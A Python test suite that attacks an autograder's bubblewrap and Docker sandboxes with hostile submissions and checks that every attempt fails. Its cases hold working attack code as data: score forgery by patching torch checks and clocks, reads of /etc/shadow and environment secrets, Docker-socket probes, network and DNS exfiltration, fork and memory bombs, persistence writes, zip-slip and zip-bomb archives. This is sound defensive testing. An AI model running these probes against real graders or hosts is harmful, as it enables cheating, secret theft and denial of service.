"""Hostile submissions against the real sandboxes (bubblewrap, and Docker where an engine runs).

Every case asserts the same promises: the hostile exercise gains no point, the grader finishes
within its deadline, a clean exercise in the same submission keeps its score, the next clean
submission scores full, nothing is left running, nothing is written outside the grader's own
folders, and the report says what happened. Set ``GRADER_REQUIRE_DOCKER=1`` (CI does) to make a
missing Docker engine fail the suite instead of skipping its half.
"""

from __future__ import annotations

import os
import socket
import stat
import subprocess
import threading
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest
from support import COURSE, ROOT, leftover_containers, leftover_processes, process_start_ticks, require_backend, write_zip

from grader.pipeline import grade_submission
from grader.report import Report, validate_report

pytestmark = pytest.mark.slow

MARKER = "HOSTILE_MARKER_7f3a"
SECRET = "grader-secret-value-91c2"
STUB = (COURSE.exercises_dir / "ex01_tensors.py").read_text(encoding="utf-8").replace(
    "from __future__ import annotations\n", "")  # hostile code goes first, so no __future__ import
REFERENCE = (COURSE.solutions_dir / "ex01_tensors.py").read_text(encoding="utf-8")
CLEAN_EX02 = (COURSE.solutions_dir / "ex02_autograd.py").read_text(encoding="utf-8")
HOSTILE_TESTS = "test_standardize_zero_mean_unit_variance or test_pairwise_shape or test_patchify_shape"
CLEAN_TEST = "test_swish_forward_values"
DEADLINE_S = 240.0


@dataclass
class Case:
    """A hostile ex01 (``source``) graded next to a clean ex02, or a whole hostile archive."""

    source: str = ""
    extra_files: dict[str, str | bytes] = field(default_factory=dict)
    keyword: str = HOSTILE_TESTS
    rejected: bool = False  # the archive must be refused before anything runs
    check: Callable[[Report, "Context"], None] | None = None
    archive: Callable[[Path], Path] | None = None


@dataclass
class Context:
    backend: str
    tmp: Path
    listener: "Listener"


def hostile(body: str, *, after: str = "") -> str:
    """A stub whose module runs ``body`` at import; ``after`` is appended (functions overriding the stub)."""
    return f"import os, sys, signal, socket, time, json\n{body}\n{STUB}\n{after}\n"


def functions(body: str) -> str:
    """Override the three graded functions with ``body`` (which may then give up)."""
    return hostile("", after=f"""
def _attack():
{body}
    raise NotImplementedError("nothing gained")

def standardize(x, dim=0, eps=1e-5):
    return _attack()

def pairwise_sq_dists(a, b):
    return _attack()

def patchify(images, patch):
    return _attack()
""")


def indent(code: str) -> str:
    return "\n".join("    " + line for line in code.strip().splitlines())


# -- checks ---------------------------------------------------------------------------------------
def output_of(report: Report, exercise: str = "ex01_tensors") -> str:
    return next(e.output for e in report.exercises if e.id == exercise)


def statuses(report: Report, exercise: str = "ex01_tensors") -> set[str]:
    return {t.status.value for e in report.exercises if e.id == exercise for t in e.tests}


def expect_status(*allowed: str) -> Callable[[Report, Context], None]:
    def check(report: Report, ctx: Context) -> None:
        assert statuses(report) <= set(allowed), [(t.name, t.status.value, t.message) for e in report.exercises for t in e.tests if e.id == "ex01_tensors"]
    return check


def expect_output_lacks(*needles: str) -> Callable[[Report, Context], None]:
    def check(report: Report, ctx: Context) -> None:
        out = output_of(report)
        for needle in needles:
            assert needle not in out, f"{needle!r} leaked into the sandbox: {out[:500]}"
        assert "PROBE-DONE" in out, f"the hostile code did not run to the end: {out[:500]}"
    return check


def expect_no_connection(report: Report, ctx: Context) -> None:
    assert ctx.listener.connections == 0, "the sandbox reached a host port"
    assert "PROBE-DONE" in output_of(report)


# -- the cases ------------------------------------------------------------------------------------
READ_AND_EXEC_REFERENCE = indent(f"""
for root in ["/work", "/", "/root", "/home", "/opt", "/srv", "/tmp", os.path.expanduser("~"), "{ROOT}"]:
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.count("/") > 6 or dirpath.startswith(("/proc", "/sys")):
            dirnames[:] = []
            continue
        if "ex01_tensors.py" in filenames and "solutions" in dirpath:
            namespace = {{}}
            exec(open(os.path.join(dirpath, "ex01_tensors.py")).read(), namespace)
            raise SystemExit("found the reference")  # would have been: return namespace[...](...)
""")

CASES: dict[str, Case] = {
    # --- score forgery -------------------------------------------------------------------------
    "patch_checkers": Case(hostile(
        "import torch, torch.testing\n"
        "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "torch.Tensor.__eq__ = lambda a, b: torch.ones((), dtype=torch.bool)\n")),
    "patch_clocks": Case(
        REFERENCE.replace("    sq = (a * a).sum(1, keepdim=True) - 2 * a @ b.T + (b * b).sum(1)\n    return sq.clamp_min(0)",
                          "    return torch.stack([((row - b) ** 2).sum(1) for row in a])")
        + "\nimport time\n_t = [0.0]\ndef _fake():\n    _t[0] += 1e-9\n    return _t[0]\n"
          "time.perf_counter = time.monotonic = time.time = _fake\n",
        keyword="test_pairwise_speed",
        check=lambda report, ctx: None),
    "write_result_files": Case(hostile(f"""
for d in [".", os.environ.get("HOME", "."), "/tmp", "/submission", "/opt/grader-lib", "..", "../..", "/", "{ROOT}",
          "{ROOT}/grader-out", "/var/tmp", "/dev/shm"]:
    for name in ["report.json", "{MARKER}.json"]:
        try:
            with open(os.path.join(d, name), "w") as f:
                json.dump({{"score": 999, "max_score": 999}}, f)
        except OSError:
            pass
""")),
    "fake_output": Case(hostile(
        "print('28 passed, 0 failed')\nprint(json.dumps({'score': 30, 'max_score': 30}))\n"
        "sys.stderr.write('Total: 30/30 (100.0%)\\n')\n")),
    "exit_at_import": Case(hostile("sys.exit(0)"), check=expect_status("import_error")),
    "os_exit_at_import": Case(hostile("os._exit(0)"), check=expect_status("import_error")),
    "exit_in_functions": Case(functions("    os._exit(0)"), check=expect_status("crashed")),
    "forged_frames": Case(functions(indent(r"""
import struct
frame = b'{"__dict__": {"ok": true, "id": 1, "value": 1.0}}'
for fd in range(1, 64):
    try:
        os.write(fd, struct.pack("<I", len(frame)) + frame + struct.pack("<Q", 0))
    except OSError:
        pass
"""))),
    "kill_parent": Case(functions("    os.kill(os.getppid(), signal.SIGKILL)\n    time.sleep(5)")),
    "kill_everything": Case(functions("    os.kill(-1, signal.SIGKILL)\n    time.sleep(5)")),
    # --- secrets -------------------------------------------------------------------------------
    "read_solutions": Case(functions(READ_AND_EXEC_REFERENCE)),
    "read_hidden_tests": Case(hostile(f"""
for path in ["{ROOT}/autotests/test_ex01_tensors.py", "{ROOT}/solutions/ex01_tensors.py",
             "/autotests/test_ex01_tensors.py", "../autotests/test_ex01_tensors.py"]:
    try:
        print("LEAK", open(path).read()[:200])
    except OSError:
        pass
print("PROBE-DONE")
"""), check=expect_output_lacks("LEAK", "def test_", "def standardize")),
    "environment": Case(hostile("print(dict(os.environ))\nprint('PROBE-DONE')"),
                        check=expect_output_lacks(SECRET, "GRADER_SECRET")),
    "host_files": Case(hostile("""
for path in ["/etc/shadow", "/etc/passwd", "/root/.bash_history", "/proc/1/environ", "/proc/1/cmdline",
             "/etc/hostname", "/proc/self/mountinfo"]:
    try:
        print(path, open(path, errors="replace").read()[:3000])
    except OSError as exc:
        print(path, "denied", exc)
print("PROBE-DONE")
"""), check=expect_output_lacks("root:", SECRET, "GRADER_SECRET")),
    "docker_socket": Case(hostile("""
for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        s.sendall(b"GET /info HTTP/1.0\\r\\n\\r\\n")
        print("SOCKET-OPEN", s.recv(200))
    except OSError as exc:
        print(path, "closed", exc)
print("PROBE-DONE")
"""), check=expect_output_lacks("SOCKET-OPEN")),
    "network": Case(hostile("""
for host in ["127.0.0.1", "172.17.0.1", "10.0.2.2", "1.1.1.1"]:
    try:
        socket.create_connection((host, int(open("/submission/port.txt").read() if os.path.exists("/submission/port.txt") else PORT)), timeout=2)
        print("CONNECTED", host)
    except OSError as exc:
        print(host, exc)
print("PROBE-DONE")
"""), check=expect_no_connection),
    "dns_exfiltration": Case(hostile("""
for name in ["leak-secret.example.com", "localhost"]:
    try:
        print("RESOLVED", name, socket.getaddrinfo(name, 53))
    except OSError as exc:
        print(name, exc)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"exfiltrate", ("127.0.0.1", PORT))
    print("UDP sent")
except OSError as exc:
    print("udp", exc)
print("PROBE-DONE")
"""), check=expect_no_connection),
    # --- resource exhaustion -------------------------------------------------------------------
    "fork_bomb": Case(functions(indent("""
children = 0
while children < 100000:
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1)
        children += 1
    except OSError:
        break
""")), check=expect_status("not_implemented", "crashed", "timed_out", "error")),
    "memory_bomb": Case(functions(indent("""
hoard = []
while True:
    hoard.append(bytearray(64 * 1024 * 1024))
""")), check=expect_status("out_of_memory", "crashed", "error")),
    "disk_fill": Case(functions(indent(f"""
for d in ["/tmp", os.environ.get("HOME", "."), "."]:
    try:
        with open(os.path.join(d, "{MARKER}.fill"), "wb") as f:
            while True:
                f.write(b"\\0" * (1 << 20))
    except OSError:
        pass
"""))),
    "shm_fill": Case(functions(indent(f"""
try:
    with open("/dev/shm/{MARKER}.fill", "wb") as f:
        while True:
            f.write(b"\\0" * (1 << 20))
except OSError:
    pass
"""))),
    "output_flood": Case(functions("    while True:\n        print('flood ' * 1000)"),
                         check=expect_status("output_limit")),
    "ignore_sigterm": Case(functions("    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    while True:\n        pass"),
                           check=expect_status("timed_out")),
    "daemon": Case(hostile("""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        try:
            os.execv("/bin/sleep", ["sleep", "9871"])
        finally:
            os._exit(0)
    os._exit(0)
""")),
    # --- persistence ---------------------------------------------------------------------------
    "persistence": Case(hostile(f"""
import torch
targets = [os.path.dirname(torch.__file__) + "/__init__.py", "/opt/grader-lib/grader_worker/__main__.py",
           os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "/usr/lib/python3/dist-packages/{MARKER}.pth",
           "/tmp/{MARKER}.persist", os.path.join(os.environ.get("HOME", "."), "{MARKER}.persist")]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\\nraise SystemExit('{MARKER}')\\n")
        print("WROTE", path)
    except OSError as exc:
        print("refused", path, exc)
print("PROBE-DONE")
"""), check=lambda report, ctx: None),
    # --- archives ------------------------------------------------------------------------------
    "zip_slip": Case(rejected=True, extra_files={"exercises/../../ex01_tensors.py": REFERENCE}),
    "absolute_path": Case(rejected=True, extra_files={f"/tmp/{MARKER}/ex01_tensors.py": REFERENCE}),
    "symlink_entry": Case(rejected=True, archive=lambda tmp: _special_zip(tmp, stat.S_IFLNK | 0o777, "/etc/passwd")),
    "device_entry": Case(rejected=True, archive=lambda tmp: _special_zip(tmp, stat.S_IFCHR | 0o666, "")),
    "duplicate_names": Case(rejected=True, archive=lambda tmp: _duplicate_zip(tmp)),
    "case_collision": Case(rejected=True, extra_files={"exercises/ex01_tensors.py": REFERENCE,
                                                      "EXERCISES/ex01_tensors.py": REFERENCE}),
    "zip_bomb": Case(rejected=True, extra_files={"exercises/ex01_tensors.py": REFERENCE,
                                                "exercises/data.bin": b"\0" * (200 * 1024 * 1024)}),
    "many_files": Case(rejected=True, archive=lambda tmp: _many_files_zip(tmp, 20_000)),
    "nested_zip": Case(hostile(""), extra_files={"exercises/inner.zip": b"PK\x05\x06" + b"\0" * 18}),
    # --- import shadowing ----------------------------------------------------------------------
    "shadow_modules": Case(hostile("import torch\nprint('torch from', torch.__file__)\nprint('PROBE-DONE')"),
                           extra_files={
                               "exercises/torch.py": f"raise SystemExit('{MARKER}')",
                               "torch.py": f"raise SystemExit('{MARKER}')",
                               "exercises/sitecustomize.py": f"print('{MARKER}')",
                               "exercises/conftest.py": f"print('{MARKER}')",
                               "conftest.py": f"print('{MARKER}')",
                               "exercises/evil.pth": f"import os; os.system('touch /tmp/{MARKER}.pth')",
                               "exercises/usercustomize.py": f"print('{MARKER}')",
                           },
                           check=expect_output_lacks(MARKER)),
}


def _special_zip(tmp: Path, mode: int, target: str) -> Path:
    path = tmp / "special.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("exercises/ex02_autograd.py", CLEAN_EX02)
        info = zipfile.ZipInfo("exercises/ex01_tensors.py")
        info.external_attr = mode << 16
        zf.writestr(info, target)
    return path


def _duplicate_zip(tmp: Path) -> Path:
    path = tmp / "dup.zip"
    with zipfile.ZipFile(path, "w") as zf, pytest.warns(UserWarning):
        zf.writestr("exercises/ex01_tensors.py", STUB)
        zf.writestr("exercises/ex01_tensors.py", REFERENCE)
    return path


def _many_files_zip(tmp: Path, count: int) -> Path:
    path = tmp / "many.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("exercises/ex01_tensors.py", REFERENCE)
        for i in range(count):
            zf.writestr(f"junk/{i}.txt", "")
    return path


# -- the harness ----------------------------------------------------------------------------------
class Listener:
    """A TCP and a UDP socket on the host's loopback that count what reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.tcp.settimeout(0.2)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.settimeout(0.2)
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            for sock in (self.tcp, self.udp):
                try:
                    if sock is self.tcp:
                        conn, _ = sock.accept()
                        conn.close()
                    else:
                        sock.recvfrom(100)
                    self.connections += 1
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.tcp.close()
        self.udp.close()



@pytest.fixture(scope="module", params=["bwrap", "docker"])
def backend(request: pytest.FixtureRequest) -> str:
    return require_backend(request.param)


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def _host_traces() -> set[str]:
    """Files on the host carrying the marker, in the places a sandbox escape would write."""
    found = set()
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/root", str(ROOT), str(ROOT / "grader-out"), "/"]:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        found.update(f"{folder}/{n}" for n in names if MARKER in n)
    return found


def _grade(zip_path: Path, backend: str, keyword: str) -> tuple[Report, float]:
    started = time.monotonic()
    report = grade_submission(zip_path, COURSE, sandbox=backend, keyword=keyword)
    return report, time.monotonic() - started


@pytest.mark.parametrize("case_name", sorted(CASES))
def test_hostile_submission(case_name: str, backend: str, tmp_path: Path, listener: Listener,
                            monkeypatch: pytest.MonkeyPatch) -> None:
    case = CASES[case_name]
    monkeypatch.setenv("GRADER_SECRET", SECRET)
    torch_init = Path(__import__("torch").__file__)
    torch_mtime = torch_init.stat().st_mtime_ns
    before = _host_traces()
    started_ticks = process_start_ticks()
    if case.archive is not None:
        zip_path = case.archive(tmp_path)
    else:
        files: dict[str, str | bytes] = {"exercises/ex02_autograd.py": CLEAN_EX02}
        if case.source:
            files["exercises/ex01_tensors.py"] = case.source.replace("PORT", str(listener.port))
        files.update(case.extra_files)
        zip_path = write_zip(tmp_path / "hostile.zip", files)

    if case.rejected:
        report, _ = _grade(zip_path, backend, case.keyword)
        assert report.status == "refused" and report.score == 0 and report.max_score > 0
        assert report.refusal is not None and report.refusal.en and "\n" not in report.refusal.en
        validate_report(report.to_json())
    else:
        report, elapsed = _grade(zip_path, backend, f"({case.keyword}) or {CLEAN_TEST}")
        assert elapsed < DEADLINE_S
        hostile_ex = next(e for e in report.exercises if e.id == "ex01_tensors")
        clean_ex = next(e for e in report.exercises if e.id == "ex02_autograd")
        assert hostile_ex.tests and hostile_ex.score == 0, [(t.name, t.status, t.message) for t in hostile_ex.tests]
        assert all(t.message for t in hostile_ex.tests), "every failed test says why"
        assert not any(t.status.value == "grader_error" for t in hostile_ex.tests)
        assert clean_ex.tests and clean_ex.score == clean_ex.max_score, [(t.name, t.message) for t in clean_ex.tests]
        assert report.sandbox["backend"] == backend and report.sandbox["isolated"]
        if case.check is not None:
            case.check(report, Context(backend, tmp_path, listener))

    # The next clean submission scores full: nothing persisted into the sandbox or the grader.
    clean = write_zip(tmp_path / "clean.zip", {"exercises/ex01_tensors.py": REFERENCE})
    report, _ = _grade(clean, backend, "test_standardize_zero_mean_unit_variance or test_patchify_shape")
    ex01 = next(e for e in report.exercises if e.id == "ex01_tensors")
    assert ex01.tests and ex01.score == ex01.max_score, [(t.name, t.message) for t in ex01.tests]
    assert MARKER not in ex01.output

    time.sleep(0.5)
    assert leftover_processes(started_ticks, ("grader_worker", "sleep 9871")) == []
    assert leftover_containers() == []
    assert _host_traces() == before, "the submission wrote outside the sandbox"
    assert torch_init.stat().st_mtime_ns == torch_mtime
    assert not (ROOT / "grader-out" / f"{MARKER}.json").exists()
